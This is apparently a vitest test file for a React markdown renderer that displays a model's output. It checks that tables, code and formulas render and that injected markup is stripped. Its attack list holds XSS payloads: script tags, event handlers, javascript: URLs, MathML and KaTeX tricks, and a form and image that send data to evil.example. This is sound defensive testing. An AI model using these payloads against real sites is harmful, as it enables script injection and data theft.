/** W-1: Markdown, code, tables, maths; and nothing of a model's output becomes markup or script. */

import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";

import MarkdownBody from "../../src/components/markdown/markdown-body";
import MarkdownMath from "../../src/components/markdown/markdown-math";
import { hasMath } from "../../src/components/markdown/math";
import { TooltipProvider } from "../../src/components/tooltip";

const labels = { copy: "Copy", copied: "Copied" };
const html = (text: string, Body: typeof MarkdownMath = MarkdownBody): string =>
  renderToStaticMarkup(
    <TooltipProvider>
      <Body text={text} copyLabels={labels} />
    </TooltipProvider>,
  );

describe("what is shown", () => {
  test("tables, lists and emphasis", () => {
    const shown = html("| a | b |\n|---|--:|\n| 1 | **2** |\n\n- [x] done");
    expect(shown).toContain("<table");
    expect(shown).toContain("<strong>2</strong>");
    expect(shown).toContain('type="checkbox"');
  });

  test("a block of code names its language, inline code does not become a block", () => {
    expect(html("```python\nx = 1\n```")).toMatch(/<figcaption[^>]*>python/);
    expect(html("use `x = 1`")).toContain("<code>x = 1</code>");
  });

  test("formulas are set, inline and displayed", () => {
    expect(html("so $x^2$ and\n\n$$\ny = 1\n$$", MarkdownMath).match(/class="katex"/g)?.length).toBe(2);
  });

  test("a place of the conversation is a button, not a link", () => {
    expect(html("see [Sales](#e12)")).toMatch(/<button[^>]*>Sales<\/button>/);
  });

  test("a citation is a button, not a link", () => {
    expect(html("said[1](#cite-1)")).toMatch(/<button[^>]*>1<\/button>/);
  });
});

describe("what is kept out", () => {
  const ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style>",
    '"><script>alert(1)</script>',
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\includegraphics{//evil.example/x.png}$",
    "[a]: javascript:alert(1)\n\n[x][a]",
    "<form action=//evil.example><input name=password></form>",
  ];

  test.each(ATTACKS)("%s", (attack) => {
    for (const shown of [html(attack), html(attack, MarkdownMath)]) {
      expect(shown).not.toMatch(/<(script|iframe|style|form|svg onload|object|embed)/i);
      expect(shown).not.toMatch(/<[^>]+\son\w+=/i);
      expect(shown).not.toMatch(/(href|src|action)="?\s*(javascript|data|vbscript):/i);
    }
  });

  test("no image is loaded from elsewhere on the word of a model", () => {
    expect(html("![secret](https://evil.example/?q=1)")).not.toContain("<img");
  });
});

test.each([
  ["$x^2$", true],
  ["$$a$$", true],
  ["it costs $5 and $10", false],
  ["between $5-$10", false],
  ["plain", false],
])("%s holds formulas: %s", (text, expected) => {
  expect(hasMath(text)).toBe(expected);
});
